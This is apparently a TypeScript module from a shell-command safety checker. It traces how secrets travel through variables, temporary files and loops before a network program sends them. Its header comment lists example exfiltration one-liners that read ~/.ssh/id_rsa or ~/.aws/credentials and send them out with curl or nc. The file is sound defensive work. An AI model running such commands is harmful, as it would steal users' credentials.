// Secrets that travel within one command line through a variable, a file or a loop before they reach
// a network sender: `K=$(cat ~/.ssh/id_rsa); curl -d "$K" …`, `read -r K < ~/.aws/credentials; nc h 1
// <<< "$K"`, `cp ~/.ssh/id_rsa /tmp/k && curl -F f=@/tmp/k …`, `tar czf /tmp/a.tgz ~/.ssh; curl -T
// /tmp/a.tgz …`, `while read l; do curl -d "$l" …; done < ~/.ssh/id_rsa`, `for f in ~/.ssh/*; do nc h
// 1 < $f; done`. One pass over the segments in execution order keeps three sets:
//   - variables holding a secret (assigned from a `$(…)` that reads one, read from a secret input,
//     a loop over secret content, or copied from such a variable);
//   - variables naming a credential file (`F=~/.ssh/id_rsa`, `for f in ~/.ssh/*`);
//   - files written from a secret (a redirect, a copy, an archive, tee, an encoder's -o).
// What a segment reads through them is handed to the exfiltration rules, which decide whether it
// is sent. The secret sources are exfiltration.ts's (a credential printer or a secret-named variable
// used in `$(…)` stays an authentication value there, and so it does here). Lexical and
// flow-insensitive within loops: a later assignment does not taint an earlier use on the next round.

import type { CommandModel, SimpleCommand } from './command-model.js';
import { Descriptors, isExecRedirect } from './descriptors.js';
import {
  credentialFile,
  type Flow,
  fromSubstitutions,
  NETWORK_PROGRAMS,
  outputSecrets,
  PRINTS_ARGS,
  redirectsOf,
  stdinSecrets,
} from './exfiltration.js';
import { Feeders } from './feeders.js';
import { authenticationFiles, CLOUD_CLIS, cloudUpload, fileCandidates } from './network-files.js';
import { isNullSink, normalizePath } from './paths.js';
import { NO_CONTENT } from './programs.js';
import { READERS, readTargets } from './read-builtins.js';
import { FILE_WRITERS, type WrittenFile, writtenFiles } from './written-files.js';

/** What a secret reaching segment i through a variable, a written file or a loop adds to the exfiltration rules. */
export interface SecretTrail {
  /** secrets in segment j's output that it reads through the trail (a secret variable it prints, a written file it reads) */
  output(j: number): readonly Flow[];
  /** secrets segment i reads on stdin through the trail (`< /tmp/copy`, `< $f`, `<<< "$K"`) */
  stdin(i: number): readonly Flow[];
  /** secrets in segment i's arguments, for a network program (`-d "$K"`, `-F f=@/tmp/copy`, `-T "$f"`) */
  args(i: number): readonly Flow[];
}

const NONE: readonly Flow[] = Object.freeze([]);
const VARIABLE_REF = /\$\{?[#!]?([A-Za-z_][A-Za-z0-9_]*)/g;
const LEADING_REF = /^\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?(?![A-Za-z0-9_])/;
const DEV_SOCKET = /^\/dev\/(?:tcp|udp)\//;
/** Programs that print file names (what `read f` then takes as a path). */
const LISTERS: ReadonlySet<string> = new Set(['ls', 'find', 'fd', 'echo', 'printf', 'realpath', 'readlink']);
/** A reason names at most this much of a secret's path through the command. */
const MAX_WHAT = 240;

function quote(s: string): string {
  return `'${s.length > 80 ? `${s.slice(0, 77)}…` : s}'`;
}

/** "the credential file '…' (segment 1)": a flow described with where it was read. */
function label(f: Flow): string {
  const what = f.from === undefined ? f.what : `${f.what} (segment ${f.from + 1})`;
  return what.length > MAX_WHAT ? `${what.slice(0, MAX_WHAT - 1)}…` : what;
}

function refs(text: string): string[] {
  if (!text.includes('$')) return [];
  return [...text.matchAll(VARIABLE_REF)].map((m) => m[1] as string);
}

/** The path a file word of a network command names (`@f`, `<f`, `name=@f` as curl takes them). */
function fileOf(candidate: string): string {
  const at = candidate.indexOf('=@');
  if (at >= 0) return candidate.slice(at + 2);
  return candidate.startsWith('@') || candidate.startsWith('<') ? candidate.slice(1) : candidate;
}

/** Whether a model can carry a secret through a variable, a file or a loop at all (a cheap test). */
function mayTrail(model: CommandModel): boolean {
  if (model.loop_variables !== undefined) return true;
  for (const s of model.segments) {
    if (s.assignments.length > 0 || READERS.has(s.program) || FILE_WRITERS.has(s.program) || s.program === 'exec')
      return true;
    if (s.program === 'printf' && s.argv[1] === '-v') return true;
    for (const r of s.redirects) if (r.is_write) return true;
  }
  return false;
}

class Trail implements SecretTrail {
  readonly #segs: readonly SimpleCommand[];
  /** variable → the secret it holds */
  readonly #vars = new Map<string, string>();
  /** variable → the credential file it names */
  readonly #paths = new Map<string, string>();
  /** variable → its plain value (`D=/tmp/x`), for the paths built from it */
  readonly #plain = new Map<string, string>();
  /** normalised path (see #pathKey) → the secret written there */
  readonly #files = new Map<string, { what: string; tree: boolean }>();
  readonly #out: (readonly Flow[])[] = [];
  readonly #in: (readonly Flow[])[] = [];
  readonly #args: (readonly Flow[])[] = [];
  readonly #direct = new Map<number, Flow[]>();
  readonly #feeders: Feeders;
  readonly #fds = new Descriptors();

  constructor(model: CommandModel) {
    this.#segs = model.segments;
    this.#feeders = new Feeders(model.segments);
    const loops = model.loop_variables ?? [];
    let next = 0;
    for (let i = 0; i < this.#segs.length; i++) {
      while (next < loops.length && (loops[next]?.at ?? Infinity) <= i) {
        const v = loops[next++];
        if (v !== undefined) this.#loop(v.name, v.words, v.from, v.at);
      }
      this.#visit(i);
    }
  }

  readonly output = (j: number): readonly Flow[] => this.#out[j] ?? NONE;
  readonly stdin = (i: number): readonly Flow[] => this.#in[i] ?? NONE;
  readonly args = (i: number): readonly Flow[] => this.#args[i] ?? NONE;

  get #empty(): boolean {
    return this.#vars.size === 0 && this.#paths.size === 0 && this.#files.size === 0 && this.#fds.empty;
  }

  /** The secret a word holding variables carries (a secret variable it expands), or null. */
  #valueIn(text: string): Flow | null {
    for (const name of refs(text)) {
      const what = this.#vars.get(name);
      if (what !== undefined) return { what };
    }
    return null;
  }

  /** The credential file a path word reaches: a variable naming one, or a file written from a secret. */
  #fileIn(word: string, recursive: boolean): Flow | null {
    const m = LEADING_REF.exec(word);
    if (m !== null) {
      const what = this.#paths.get(m[1] as string);
      if (what !== undefined) return { what };
    }
    if (this.#files.size === 0) return null;
    const n = this.#pathKey(word);
    if (n === null || n === '') return null;
    for (const [path, f] of this.#files) {
      if (n === path || (f.tree && n.startsWith(`${path}/`)) || (recursive && path.startsWith(`${n}/`)))
        return { what: f.what };
    }
    return null;
  }

  /**
   * What a path word is tracked by: normalised, a leading variable of a known plain value put in;
   * a path under another variable keeps it (`"$T"`, `${T}/k` → `$T`, `$T/k`), so that
   * `T=$(mktemp); cp ~/.ssh/id_rsa "$T"; curl -T "$T" …` is followed. Null when unknown.
   */
  #pathKey(word: string): string | null {
    const m = LEADING_REF.exec(word);
    if (m === null || m[1] === 'HOME') return normalizePath(word);
    const name = m[1] as string;
    const rest = word.slice(m[0].length);
    const value = this.#plain.get(name);
    if (value !== undefined) return normalizePath(value + rest);
    if (rest !== '' && !rest.startsWith('/')) return null;
    const tail = normalizePath(`/x${rest}`);
    return tail === null ? null : `$${name}${tail.slice(2)}`;
  }

  /** A variable takes a new value: what was known of it, and files named through it, are forgotten. */
  #rebind(name: string, plain: string | null): void {
    if (plain === null) this.#plain.delete(name);
    else this.#plain.set(name, plain);
    for (const key of this.#files.keys()) {
      if (key === `$${name}` || key.startsWith(`$${name}/`)) this.#files.delete(key);
    }
  }

  #loop(name: string, words: readonly string[], from: number, at: number): void {
    this.#rebind(name, null);
    const secret: Flow[] = [];
    for (let j = from; j < at; j++) {
      for (const what of outputSecrets(this.#segs[j] as SimpleCommand, true)) secret.push({ what, from: j });
      secret.push(...this.output(j));
    }
    for (const w of words) {
      const v = this.#valueIn(w);
      if (v !== null) secret.push(v);
    }
    this.#assign(name, secret, 'loop variable');
    for (const w of words) {
      const named = credentialFile(w) ?? this.#fileIn(w, false)?.what ?? null;
      if (named !== null) {
        this.#paths.set(name, `${named} through the loop variable '$${name}'`);
        return;
      }
    }
  }

  #assign(name: string, secret: readonly Flow[], kind = 'variable'): void {
    const first = secret[0];
    if (first === undefined) this.#vars.delete(name);
    else this.#vars.set(name, `${label(first)} through the ${kind} '$${name}'`);
    this.#paths.delete(name);
  }

  /** What segment j's output carries, all sources together (memoised; j is behind the pass). */
  #directOf(j: number): Flow[] {
    let v = this.#direct.get(j);
    if (v === undefined) {
      const s = this.#segs[j] as SimpleCommand;
      v = outputSecrets(s).map((what) => ({ what, from: j }));
      if (PRINTS_ARGS.has(s.program)) v.push(...fromSubstitutions(this.#segs, j));
      v.push(...this.output(j));
      this.#direct.set(j, v);
    }
    return v;
  }

  /** What the earlier stages of segment i's pipeline feed it. */
  #upstream(i: number): Flow[] {
    return this.#feeders.upstream(i).flatMap((j) => this.#directOf(j));
  }

  /** The credential files whose names reach segment i's stdin (`ls ~/.ssh/* | while read f`), described; or null. */
  #listed(i: number): string | null {
    for (const j of [...this.#feeders.upstream(i), ...this.#feeders.substitutions(i)]) {
      const s = this.#segs[j] as SimpleCommand;
      if (!LISTERS.has(s.program)) continue;
      const named = s.argv.slice(1).find((w) => !w.startsWith('-') && credentialFile(w) !== null);
      if (named !== undefined) return `the credential files named by ${s.program} ${quote(named)} (segment ${j + 1})`;
    }
    return null;
  }

  /** The secrets of the `$(…)` in segment i's words, through the trail too (`$(cat /tmp/copy)`). */
  #substituted(i: number): Flow[] {
    return [...fromSubstitutions(this.#segs, i), ...this.#substitutionTrail(i)];
  }

  /** What the `$(…)` in segment i's words read through the trail. */
  #substitutionTrail(i: number): Flow[] {
    return this.#feeders.substitutions(i).flatMap((j) => this.output(j));
  }

  #visit(i: number): void {
    const seg = this.#segs[i] as SimpleCommand;
    this.#feeders.pass(i);
    if (isExecRedirect(seg)) {
      this.#fds.open(seg, (t) => {
        const c = credentialFile(t);
        return c !== null ? { what: c, from: i } : this.#fileIn(t, false);
      });
      return;
    }
    if (!seg.wrapper && !this.#empty) this.#reads(i, seg);
    if (seg.wrapper) {
      for (const a of seg.assignments) this.#assignment(i, a);
      return;
    }
    if (READERS.has(seg.program)) {
      const input = [
        ...stdinSecrets(redirectsOf(this.#segs, i)).map((what) => ({ what, from: i })),
        ...this.stdin(i),
        ...this.#upstream(i),
        ...this.#substituted(i),
      ];
      const listed = this.#listed(i);
      for (const name of readTargets(seg)) {
        this.#assign(name, input);
        if (listed !== null) this.#paths.set(name, `${listed} through the variable '$${name}'`);
      }
    }
    if (seg.program === 'printf' && seg.argv[1] === '-v' && seg.argv[2] !== undefined) {
      const v = seg.argv.slice(3).map((w) => this.#valueIn(w));
      this.#assign(seg.argv[2], [...v.filter((x): x is Flow => x !== null), ...this.#substituted(i)]);
    }
    for (const a of seg.assignments) this.#assignment(i, a);
    if (seg.program === 'unset') for (const name of seg.argv.slice(1)) this.#assign(name, NONE);
    this.#writes(i, seg);
  }

  #assignment(i: number, a: SimpleCommand['assignments'][number]): void {
    this.#rebind(a.name, a.dynamic ? null : a.value);
    const secret: Flow[] = [];
    if (a.dynamic) {
      const v = this.#valueIn(a.value);
      if (v !== null) secret.push(v);
      if (/\$\(|`/.test(a.value)) secret.push(...this.#substituted(i));
    }
    this.#assign(a.name, secret);
    const named = credentialFile(a.value) ?? this.#fileIn(a.value, false)?.what ?? null;
    if (named !== null) this.#paths.set(a.name, `${named} through the variable '$${a.name}'`);
  }

  /** What segment i reads through the trail: its stdin, the files and variables in its words. */
  #reads(i: number, seg: SimpleCommand): void {
    const redirects = redirectsOf(this.#segs, i);
    const piped = seg.pipeline !== null && seg.pipeline.index > 0;
    const stdin: Flow[] = this.#fds.reads({ ...seg, redirects }, piped);
    for (const r of redirects) {
      if (r.op === '<' || r.op === '<>') {
        const f = this.#fileIn(r.target, false);
        if (f !== null) stdin.push(f);
      } else if ((r.op === '<<<' || r.op === '<<' || r.op === '<<-') && r.dynamic) {
        const v = this.#valueIn(r.target);
        if (v !== null) stdin.push(v);
      }
    }
    const out: Flow[] = [...stdin];
    const args: Flow[] = [];
    const p = seg.program;
    const network = NETWORK_PROGRAMS.has(p);
    const readsFiles = !NO_CONTENT.has(p) && !PRINTS_ARGS.has(p) && !READERS.has(p);
    const recursive = seg.argv.some((w) => /^-[a-zA-Z]*[rRa]$|^--recursive$/.test(w));
    const written = FILE_WRITERS.has(p) ? writtenFiles(seg) : [];
    let auth: Set<number> | undefined;
    for (let k = 1; k < seg.argv.length; k++) {
      const w = seg.argv[k] as string;
      if (written.some((f) => !f.read && f.path === w)) continue;
      const dynamic = seg.dynamic.includes(k);
      const v = dynamic ? this.#valueIn(w) : null;
      if (v !== null) {
        out.push(v);
        if (network) args.push(v);
      }
      if (network) {
        auth ??= authenticationFiles(seg);
        if (auth.has(k)) continue;
        for (const c of fileCandidates(w, true, false)) {
          const f = this.#fileIn(fileOf(c), recursive && (p === 'scp' || p === 'rsync'));
          if (f !== null) {
            args.push(f);
            break;
          }
        }
      } else if (readsFiles) {
        const f = this.#fileIn(w, recursive || FILE_WRITERS.has(p));
        if (f !== null) out.push(f);
      }
    }
    if (network) args.push(...this.#substitutionTrail(i));
    else if (CLOUD_CLIS.has(p)) {
      for (const k of cloudUpload(seg)?.files ?? []) {
        const f = this.#fileIn(seg.argv[k] as string, true);
        if (f !== null) args.push(f);
      }
    }
    if (stdin.length > 0) this.#in[i] = stdin;
    if (out.length > 0) this.#out[i] = out;
    if (args.length > 0) this.#args[i] = args;
  }

  /** Files segment i writes: tainted by what it outputs (and reads), cleared when replaced by something else. */
  #writes(i: number, seg: SimpleCommand): void {
    const targets: WrittenFile[] = writtenFiles(seg);
    const redirects = redirectsOf(this.#segs, i);
    for (const r of redirects) {
      if (!r.is_write || isNullSink(r.target) || DEV_SOCKET.test(r.target)) continue;
      targets.push({ path: r.target, tree: false, replaces: r.op !== '>>' && r.op !== '&>>', read: false });
    }
    const piped = seg.pipeline !== null && seg.pipeline.index < seg.pipeline.length - 1;
    for (const path of this.#fds.writes({ ...seg, redirects }, piped))
      targets.push({ path, tree: false, replaces: false, read: false });
    if (targets.length === 0) return;
    const secret = [...this.#directOf(i), ...this.#upstream(i)];
    const first = secret[0];
    for (const t of targets) {
      const n = this.#pathKey(t.path);
      if (n === null || n === '') continue;
      if (first !== undefined) {
        // an archiver's operand may be what it read: keep how that file got its secret
        if (!(t.read && this.#files.has(n)))
          this.#files.set(n, { what: `${label(first)} written to ${quote(t.path)}`, tree: t.tree });
      } else if (t.replaces) {
        this.#files.delete(n);
      }
    }
  }
}

/** The secrets that reach each segment through variables, written files and loops (nothing for most commands). */
export function traceSecrets(model: CommandModel): SecretTrail | undefined {
  return mayTrail(model) ? new Trail(model) : undefined;
}
